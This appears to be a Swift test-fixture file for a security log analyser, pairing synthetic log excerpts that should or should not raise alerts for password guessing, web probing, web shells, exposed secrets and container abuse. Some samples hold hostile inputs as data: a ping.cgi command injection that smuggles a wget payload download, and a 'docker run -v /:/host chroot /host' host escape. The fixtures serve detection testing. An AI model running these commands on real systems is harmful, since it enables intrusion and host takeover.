extension RiskExcerpt {
  static let mail: [RiskExcerpt] = [
    .init(
      risk: "mail-password-guessing", source: "mail",
      raises: #"""
        2026-05-11T06:20:00+00:00 mx1 postfix/submission/smtpd[3301]: warning: unknown[198.51.100.40]: SASL LOGIN authentication failed: authentication failure, sasl_username=info@shop.example
        2026-05-11T06:20:35+00:00 mx1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<sales@shop.example>, method=PLAIN, rip=198.51.100.40, lip=203.0.113.10, TLS, session=<pX0q1>
        2026-05-11T06:21:10+00:00 mx1 postfix/submission/smtpd[3303]: warning: unknown[198.51.100.40]: SASL LOGIN authentication failed: authentication failure, sasl_username=office@shop.example
        2026-05-11T06:21:45+00:00 mx1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<ines@shop.example>, method=PLAIN, rip=198.51.100.40, lip=203.0.113.10, TLS, session=<pX0q3>
        2026-05-11T06:22:20+00:00 mx1 postfix/submission/smtpd[3305]: warning: unknown[198.51.100.40]: SASL LOGIN authentication failed: authentication failure, sasl_username=admin@shop.example
        2026-05-11T06:22:55+00:00 mx1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<contact@shop.example>, method=PLAIN, rip=198.51.100.40, lip=203.0.113.10, TLS, session=<pX0q5>
        2026-05-11T06:23:30+00:00 mx1 postfix/submission/smtpd[3307]: warning: unknown[198.51.100.40]: SASL LOGIN authentication failed: authentication failure, sasl_username=joel@shop.example
        2026-05-11T06:24:05+00:00 mx1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<shop@shop.example>, method=PLAIN, rip=198.51.100.40, lip=203.0.113.10, TLS, session=<pX0q7>
        2026-05-11T06:24:40+00:00 mx1 postfix/submission/smtpd[3309]: warning: unknown[198.51.100.40]: SASL LOGIN authentication failed: authentication failure, sasl_username=mira@shop.example
        2026-05-11T06:25:15+00:00 mx1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<web@shop.example>, method=PLAIN, rip=198.51.100.40, lip=203.0.113.10, TLS, session=<pX0q9>
        """#,
      // One try fewer within the ten minutes.
      harmless: #"""
        2026-05-11T06:20:00+00:00 mx1 postfix/submission/smtpd[3301]: warning: unknown[198.51.100.40]: SASL LOGIN authentication failed: authentication failure, sasl_username=info@shop.example
        2026-05-11T06:20:35+00:00 mx1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<sales@shop.example>, method=PLAIN, rip=198.51.100.40, lip=203.0.113.10, TLS, session=<pX0q1>
        2026-05-11T06:21:10+00:00 mx1 postfix/submission/smtpd[3303]: warning: unknown[198.51.100.40]: SASL LOGIN authentication failed: authentication failure, sasl_username=office@shop.example
        2026-05-11T06:21:45+00:00 mx1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<ines@shop.example>, method=PLAIN, rip=198.51.100.40, lip=203.0.113.10, TLS, session=<pX0q3>
        2026-05-11T06:22:20+00:00 mx1 postfix/submission/smtpd[3305]: warning: unknown[198.51.100.40]: SASL LOGIN authentication failed: authentication failure, sasl_username=admin@shop.example
        2026-05-11T06:22:55+00:00 mx1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<contact@shop.example>, method=PLAIN, rip=198.51.100.40, lip=203.0.113.10, TLS, session=<pX0q5>
        2026-05-11T06:23:30+00:00 mx1 postfix/submission/smtpd[3307]: warning: unknown[198.51.100.40]: SASL LOGIN authentication failed: authentication failure, sasl_username=joel@shop.example
        2026-05-11T06:24:05+00:00 mx1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<shop@shop.example>, method=PLAIN, rip=198.51.100.40, lip=203.0.113.10, TLS, session=<pX0q7>
        2026-05-11T06:24:40+00:00 mx1 postfix/submission/smtpd[3309]: warning: unknown[198.51.100.40]: SASL LOGIN authentication failed: authentication failure, sasl_username=mira@shop.example
        """#),
    .init(
      risk: "mail-relay-abuse", source: "mail",
      raises: #"""
        2026-05-11T06:24:00+00:00 mx1 postfix/submission/smtpd[3402]: 4B2C110: client=unknown[198.51.100.61], sasl_method=LOGIN, sasl_username=ines@shop.example
        2026-05-11T06:24:07+00:00 mx1 postfix/submission/smtpd[3403]: 4B2C111: client=unknown[203.0.113.8], sasl_method=LOGIN, sasl_username=ines@shop.example
        2026-05-11T06:24:14+00:00 mx1 postfix/submission/smtpd[3404]: 4B2C112: client=unknown[2001:db8:7::21], sasl_method=LOGIN, sasl_username=ines@shop.example
        2026-05-11T06:24:21+00:00 mx1 postfix/submission/smtpd[3405]: 4B2C113: client=unknown[192.0.2.199], sasl_method=LOGIN, sasl_username=ines@shop.example
        2026-05-11T06:24:28+00:00 mx1 postfix/submission/smtpd[3406]: 4B2C114: client=unknown[2001:db8:71:4::9], sasl_method=LOGIN, sasl_username=ines@shop.example
        """#,
      // The office, the flat and the train: three networks in place of five.
      harmless: #"""
        2026-05-11T06:24:00+00:00 mx1 postfix/submission/smtpd[3402]: 4B2C110: client=office.shop.example[192.0.2.61], sasl_method=LOGIN, sasl_username=ines@shop.example
        2026-05-11T06:24:07+00:00 mx1 postfix/submission/smtpd[3403]: 4B2C111: client=office.shop.example[192.0.2.61], sasl_method=LOGIN, sasl_username=ines@shop.example
        2026-05-11T06:24:14+00:00 mx1 postfix/submission/smtpd[3404]: 4B2C112: client=home.example[198.51.100.140], sasl_method=LOGIN, sasl_username=ines@shop.example
        2026-05-11T06:24:21+00:00 mx1 postfix/submission/smtpd[3405]: 4B2C113: client=mobile.example[203.0.113.66], sasl_method=LOGIN, sasl_username=ines@shop.example
        2026-05-11T06:24:28+00:00 mx1 postfix/submission/smtpd[3406]: 4B2C114: client=office.shop.example[192.0.2.62], sasl_method=LOGIN, sasl_username=ines@shop.example
        """#),
  ]

  static let services: [RiskExcerpt] = [
    .init(
      risk: "db-password-guessing", source: "postgresql",
      raises: #"""
        2026-05-11 06:42:00.771 UTC [7712] postgres@postgres 198.51.100.40 FATAL:  password authentication failed for user "postgres"
        2026-05-11 06:42:09.771 UTC [7713] postgres@postgres 198.51.100.40 FATAL:  password authentication failed for user "postgres"
        2026-05-11 06:42:18.771 UTC [7714] postgres@postgres 198.51.100.40 FATAL:  password authentication failed for user "postgres"
        2026-05-11 06:42:27.771 UTC [7715] postgres@postgres 198.51.100.40 FATAL:  password authentication failed for user "postgres"
        2026-05-11 06:42:36.771 UTC [7716] postgres@postgres 198.51.100.40 FATAL:  password authentication failed for user "postgres"
        """#,
      // One try fewer.
      harmless: #"""
        2026-05-11 06:42:00.771 UTC [7712] postgres@postgres 198.51.100.40 FATAL:  password authentication failed for user "postgres"
        2026-05-11 06:42:09.771 UTC [7713] postgres@postgres 198.51.100.40 FATAL:  password authentication failed for user "postgres"
        2026-05-11 06:42:18.771 UTC [7714] postgres@postgres 198.51.100.40 FATAL:  password authentication failed for user "postgres"
        2026-05-11 06:42:27.771 UTC [7715] postgres@postgres 198.51.100.40 FATAL:  password authentication failed for user "postgres"
        """#),
    .init(
      risk: "container-abuse", source: "audit",
      raises: #"""
        type=SYSCALL msg=audit(1778481771.220:9420): arch=c000003e syscall=59 success=yes exit=0 a0=5581 a1=5590 a2=55a0 a3=8 items=1 ppid=911 pid=7840 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=7 comm="docker" exe="/usr/bin/docker" subj=unconfined key="exec"
        type=EXECVE msg=audit(1778481771.220:9420): argc=9 a0="docker" a1="run" a2="--rm" a3="-it" a4="-v" a5="/:/host" a6="debian:12" a7="chroot" a8="/host"
        type=CWD msg=audit(1778481771.220:9420): cwd="/home/joel"
        type=PATH msg=audit(1778481771.220:9420): item=0 name="/usr/bin/docker" inode=1311 dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
        type=PROCTITLE msg=audit(1778481771.220:9420): proctitle=646F636B65720072756E002D2D726D002D6974002D76002F3A2F686F73740064656269616E3A3132006368726F6F74002F686F7374
        """#,
      // The container is given one folder of the shop.
      harmless: #"""
        type=SYSCALL msg=audit(1778481771.220:9420): arch=c000003e syscall=59 success=yes exit=0 a0=5581 a1=5590 a2=55a0 a3=8 items=1 ppid=911 pid=7840 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=7 comm="docker" exe="/usr/bin/docker" subj=unconfined key="exec"
        type=EXECVE msg=audit(1778481771.220:9420): argc=9 a0="docker" a1="run" a2="--rm" a3="-it" a4="-v" a5="/srv/shop:/srv" a6="debian:12" a7="ls" a8="/srv"
        type=CWD msg=audit(1778481771.220:9420): cwd="/home/joel"
        type=PATH msg=audit(1778481771.220:9420): item=0 name="/usr/bin/docker" inode=1311 dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
        type=PROCTITLE msg=audit(1778481771.220:9420): proctitle=646F636B65720072756E002D2D726D002D6974002D76002F7372762F73686F703A2F7372760064656269616E3A3132006C73002F737276
        """#),
    .init(
      risk: "network-scan", source: "fail2ban",
      raises: #"""
        2026-05-11 06:45:10,512 fail2ban.actions        [612]: NOTICE  [sshd] Ban 198.51.100.40
        2026-05-11 06:47:31,090 fail2ban.actions        [612]: NOTICE  [postfix-sasl] Ban 198.51.100.40
        2026-05-11 06:49:02,344 fail2ban.actions        [612]: NOTICE  [nginx-http-auth] Ban 198.51.100.40
        """#,
      // Three strangers, each at one door.
      harmless: #"""
        2026-05-11 06:45:10,512 fail2ban.actions        [612]: NOTICE  [sshd] Ban 198.51.100.40
        2026-05-11 06:47:31,090 fail2ban.actions        [612]: NOTICE  [postfix-sasl] Ban 198.51.100.41
        2026-05-11 06:49:02,344 fail2ban.actions        [612]: NOTICE  [nginx-http-auth] Ban 203.0.113.77
        """#),
  ]

  static let web: [RiskExcerpt] = [
    .init(
      risk: "web-probing", source: "nginx-access",
      raises: #"""
        198.51.100.40 - - [11/May/2026:06:15:00 +0000] "GET /phpmyadmin/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:02 +0000] "GET /pma/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:04 +0000] "GET /wp-admin/setup-config.php HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:06 +0000] "GET /wp-content/plugins/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:08 +0000] "GET /administrator/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:10 +0000] "GET /cgi-bin/test.cgi HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:12 +0000] "GET /solr/admin/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:14 +0000] "GET /manager/html HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:16 +0000] "GET /owa/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:18 +0000] "GET /boaform/admin/formLogin HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:20 +0000] "GET /config.json HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:22 +0000] "GET /backup/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:24 +0000] "GET /old/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:26 +0000] "GET /.vscode/sftp.json HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:28 +0000] "GET /vendor/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:30 +0000] "GET /HNAP1 HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:32 +0000] "GET /jenkins/login HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:34 +0000] "GET /api/v1/pods HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:36 +0000] "GET /console/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:38 +0000] "GET /druid/index.html HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        """#,
      // One page fewer within the minute.
      harmless: #"""
        198.51.100.40 - - [11/May/2026:06:15:00 +0000] "GET /phpmyadmin/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:02 +0000] "GET /pma/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:04 +0000] "GET /wp-admin/setup-config.php HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:06 +0000] "GET /wp-content/plugins/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:08 +0000] "GET /administrator/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:10 +0000] "GET /cgi-bin/test.cgi HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:12 +0000] "GET /solr/admin/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:14 +0000] "GET /manager/html HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:16 +0000] "GET /owa/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:18 +0000] "GET /boaform/admin/formLogin HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:20 +0000] "GET /config.json HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:22 +0000] "GET /backup/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:24 +0000] "GET /old/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:26 +0000] "GET /.vscode/sftp.json HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:28 +0000] "GET /vendor/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:30 +0000] "GET /HNAP1 HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:32 +0000] "GET /jenkins/login HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:34 +0000] "GET /api/v1/pods HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:15:36 +0000] "GET /console/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        """#),
    .init(
      risk: "web-exploit", source: "apache-access",
      raises: #"""
        198.51.100.40 - - [11/May/2026:06:21:00 +0000] "GET /cgi-bin/ping.cgi?host=127.0.0.1 HTTP/1.1" 200 412 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:21:09 +0000] "GET /cgi-bin/ping.cgi?host=127.0.0.1%3Bwget+http://203.0.113.9/a+-O+/tmp/a HTTP/1.1" 200 412 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        """#,
      // The same request to a site without such a page.
      harmless: #"""
        198.51.100.40 - - [11/May/2026:06:21:00 +0000] "GET /cgi-bin/ping.cgi?host=127.0.0.1 HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:21:09 +0000] "GET /cgi-bin/ping.cgi?host=127.0.0.1%3Bwget+http://203.0.113.9/a+-O+/tmp/a HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        """#),
    .init(
      risk: "web-shell", source: "nginx-access",
      raises: #"""
        198.51.100.40 - - [11/May/2026:06:20:00 +0000] "POST /wp-admin/async-upload.php HTTP/1.1" 200 512 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:20:14 +0000] "POST /wp-content/uploads/2026/05/pic.php HTTP/1.1" 200 31 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        """#,
      // A picture is uploaded and shown; a script of that name is not there.
      harmless: #"""
        192.0.2.61 - - [11/May/2026:06:20:00 +0000] "POST /wp-admin/async-upload.php HTTP/1.1" 200 512 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        192.0.2.61 - - [11/May/2026:06:20:14 +0000] "GET /wp-content/uploads/2026/05/pic.jpg HTTP/1.1" 200 81920 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        198.51.100.40 - - [11/May/2026:06:21:30 +0000] "POST /wp-content/uploads/2026/05/pic.php HTTP/1.1" 404 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"
        """#),
    .init(
      risk: "web-secrets-served", source: "nginx-access",
      raises: #"""
        203.0.113.88 - - [11/May/2026:06:14:09 +0000] "GET /.git/config HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible)"
        203.0.113.88 - - [11/May/2026:06:14:10 +0000] "GET /shop/.env HTTP/1.1" 200 1432 "-" "Mozilla/5.0 (compatible)"
        """#,
      // The file is asked for, and is not there.
      harmless: #"""
        203.0.113.88 - - [11/May/2026:06:14:09 +0000] "GET /.git/config HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible)"
        203.0.113.88 - - [11/May/2026:06:14:10 +0000] "GET /shop/.env HTTP/1.1" 404 153 "-" "Mozilla/5.0 (compatible)"
        """#),
  ]
}
